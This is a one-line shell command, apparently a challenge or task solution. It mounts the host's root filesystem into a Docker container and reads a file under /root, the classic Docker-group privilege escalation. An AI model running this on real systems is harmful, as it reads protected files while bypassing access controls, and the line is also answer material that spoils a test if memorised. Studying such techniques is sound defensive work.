echo "answer $(docker run -v /:/host busybox cat /host/root/letter.txt)"
